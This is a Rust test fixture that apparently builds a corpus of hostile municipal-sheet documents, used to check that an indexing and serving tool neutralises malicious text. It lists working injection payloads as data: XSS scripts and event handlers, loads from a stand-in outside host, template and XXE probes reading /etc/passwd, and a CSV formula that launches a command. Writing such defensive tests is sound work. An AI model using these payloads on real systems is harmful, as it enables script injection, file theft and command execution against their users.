//! Documents whose every text means harm.

use std::net::TcpListener;
use std::path::Path;
use std::sync::LazyLock;

use serde_json::{Value, json};
use shisaku::index::Unit;

use super::world::World;

/// Made once for all tests.
pub(super) static HOSTILE: LazyLock<HostileWorld> = LazyLock::new(HostileWorld::new);

/// Texts of one kind; each kind is a sheet of its own.
pub(super) struct Harm {
    pub(super) name: &'static str,
    pub(super) texts: Vec<String>,
}

/// A served corpus, and another host that nobody may call.
pub(super) struct HostileWorld {
    pub(super) world: World,
    pub(super) harms: Vec<Harm>,
    stranger: TcpListener,
}

impl HostileWorld {
    fn new() -> Self {
        let stranger = TcpListener::bind("127.0.0.1:0").unwrap();
        stranger.set_nonblocking(true).unwrap();
        let harms = harms(&format!(
            "127.0.0.1:{}",
            stranger.local_addr().unwrap().port()
        ));
        // Not in the system's folder for temporary files: a `static` removes nothing.
        let corpus = Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile-corpus");
        let _ = std::fs::remove_dir_all(&corpus);
        std::fs::create_dir_all(&corpus).unwrap();
        write(&corpus, &harms);
        Self {
            world: World::of(&corpus, &[]),
            harms,
            stranger,
        }
    }

    /// A measure of each kind of harm.
    pub(super) fn measures(&self) -> Vec<(&Harm, Unit)> {
        let units = self.world.index.units();
        let measure = |number: usize| {
            let is_of = |unit: &&Unit| {
                let city = unit.sheet.municipality.as_deref();
                unit.measure.is_some()
                    && city.is_some_and(|city| city.starts_with(&format!("{number}市")))
            };
            units.iter().find(is_of).cloned().unwrap()
        };
        let numbered = self.harms.iter().enumerate();
        numbered
            .map(|(number, harm)| (harm, measure(number)))
            .collect()
    }

    /// Whether anybody has called the other host.
    pub(super) fn was_called(&self) -> bool {
        self.stranger.accept().is_ok()
    }
}

fn harms(stranger: &str) -> Vec<Harm> {
    let harm = |name, texts| Harm { name, texts };
    vec![
        harm("elements", elements(stranger)),
        harm("attributes", attributes(stranger)),
        harm("direction", owned(DIRECTION)),
        harm("invisible", owned(INVISIBLE)),
        harm("templates", owned(TEMPLATES)),
        harm("formulas", owned(FORMULAS)),
        harm("lengths", lengths()),
    ]
}

fn owned(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|text| (*text).to_owned()).collect()
}

fn elements(stranger: &str) -> Vec<String> {
    vec![
        "<script>window.pwned=1</script>".to_owned(),
        format!("<script src=http://{stranger}/a.js></script>"),
        "</title></textarea></style></script><script>window.pwned=2</script>".to_owned(),
        format!("<img src=http://{stranger}/a.png onerror=window.pwned=3>"),
        "<svg onload=window.pwned=4><a xlink:href=javascript:alert(1)>x</a></svg>".to_owned(),
        format!("<iframe src=http://{stranger}/></iframe><base href=http://{stranger}/>"),
        format!("<meta http-equiv=refresh content=0;url=http://{stranger}/>"),
        format!("<link rel=stylesheet href=//{stranger}/a.css><style>*{{display:none}}</style>"),
        format!("<form action=http://{stranger}/><button autofocus onfocus=alert(1)>x</button>"),
        "<details open ontoggle=alert(1)>x</details>".to_owned(),
    ]
}

fn attributes(stranger: &str) -> Vec<String> {
    vec![
        "\" autofocus onfocus=\"window.pwned=5\" x=\"".to_owned(),
        "' onmouseover='window.pwned=6' x='".to_owned(),
        "\"><script>window.pwned=7</script>".to_owned(),
        "` onclick=`alert(1)`".to_owned(),
        "javascript:window.pwned=8//".to_owned(),
        "data:text/html,<script>window.pwned=9</script>".to_owned(),
        format!("http://{stranger}/ //{stranger}/ \\\\{stranger}\\"),
        "x&y=1#z?q=2/../..;%2e%2e%00".to_owned(),
    ]
}

const DIRECTION: &[&str] = &[
    "\u{202E}に右から左へ",
    "\u{2067}閉じない隔離",
    "\u{2069}\u{202D}先に閉じて\u{202E}開く",
    "\u{2066}\u{202B}入れ子\u{202A}",
    "مدينة تجريبية",
];

const INVISIBLE: &[&str] = &[
    "幅\u{200B}の\u{200C}ない\u{200D}文字\u{2060}と\u{FEFF}印\u{00AD}",
    "制御\u{1}文字\u{8}と\u{B}\u{C}\u{1B}[31m\u{7F}\u{85}",
    "非文字\u{FFFE}\u{FFFF}\u{1FFFE}",
    "行\u{2028}と段落\u{2029}の区切り",
    "タグ\u{E0041}\u{E007F}と異体字\u{E0100}",
];

const TEMPLATES: &[&str] = &[
    "{{7*7}} {% include \"/etc/passwd\" %} {# x #}",
    "${7*7} #{7*7} <%= 7*7 %> <?php echo 7*7 ?>",
    "]]> <![CDATA[ x ]]> --> <!-- x -->",
    "&lt;script&gt;window.pwned=10&lt;/script&gt; &#60;b&#62; &amp;lt;i&amp;gt;",
    "<mark>印</mark><mark onclick=alert(1)>x",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
];

const FORMULAS: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
];

fn lengths() -> Vec<String> {
    vec![
        "W".repeat(400),
        "あ".repeat(120),
        "長い ".repeat(60),
        "\u{308}\u{301}".repeat(60),
    ]
}

fn write(folder: &Path, harms: &[Harm]) {
    for (number, harm) in harms.iter().enumerate() {
        let sheets = json!([{ "sheets": [sheet(number, harm, 2022), sheet(number, harm, 2023)] }]);
        // A name holds no slash and 255 bytes.
        let name: String = harm.texts[0]
            .chars()
            .filter(|c| *c != '/')
            .take(60)
            .collect();
        std::fs::write(folder.join(format!("{name}.json")), sheets.to_string()).unwrap();
    }
    let texts = || harms.iter().flat_map(|harm| &harm.texts);
    let escape = |text: &str| text.replace('&', "&amp;").replace('<', "&lt;");
    let cells = texts().map(|text| format!("<tr><td>{}</td><td>{text}</td></tr>", escape(text)));
    let page = format!(
        "<h1>令和4年度</h1><table>{}</table>",
        cells.collect::<String>()
    );
    std::fs::write(folder.join("<b onclick=alert(1)>x&y'\".html"), page).unwrap();
    let mut rows = csv::Writer::from_path(folder.join("\u{202E}vsc.csv")).unwrap();
    for text in texts() {
        rows.write_record(["=1", text, "令和4年度"]).unwrap();
    }
    rows.flush().unwrap();
}

fn sheet(number: usize, harm: &Harm, year: u16) -> Value {
    // Names are told apart by a number that stands before the harm.
    let first = &harm.texts[0];
    json!({
        "municipality": format!("{number}市{first}"),
        "kind": format!("シート{first}"),
        "department": format!("{number}部{first}"),
        "head": { "role": first, "name": first },
        "fiscal_year": year,
        "mission": items(harm),
        "directions": items(harm),
        "passages": items(harm),
        "measures": (harm.texts.iter().enumerate())
            .map(|(at, text)| measure(at + 1, text, harm))
            .collect::<Vec<_>>(),
    })
}

fn measure(number: usize, text: &str, harm: &Harm) -> Value {
    json!({
        "section": "annual", "number": number, "title": text, "emphasis": [text],
        "plan_codes": [{ "code": "5-1-3", "raw": text, "name": text }],
        "policies": [{ "scheme": format!("政策{text}"), "number": number, "name": text }],
        "commitments": items(harm), "results": items(harm), "issues": items(harm),
        "schedule": items(harm), "notes": items(harm),
        "division": text, "rating": text, "rating_text": text, "outlook": text,
        "theme": text, "goal": text,
        "source": { "page": null, "lines": [number, number] },
    })
}

fn items(harm: &Harm) -> Vec<Value> {
    let item = |text: &String| json!({ "marker": text.chars().take(8).collect::<String>(), "text": text, "items": [] });
    harm.texts.iter().map(item).collect()
}
